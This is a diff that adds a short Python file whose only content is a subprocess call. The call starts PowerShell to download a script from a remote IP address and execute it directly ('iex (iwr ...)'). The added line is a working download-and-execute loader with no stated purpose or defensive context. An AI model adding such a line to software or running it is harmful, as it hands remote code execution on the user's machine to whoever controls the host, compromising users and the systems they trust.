@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.Popen('powershell -Command "iex (iwr http://192.0.2.5/a.ps1)"')
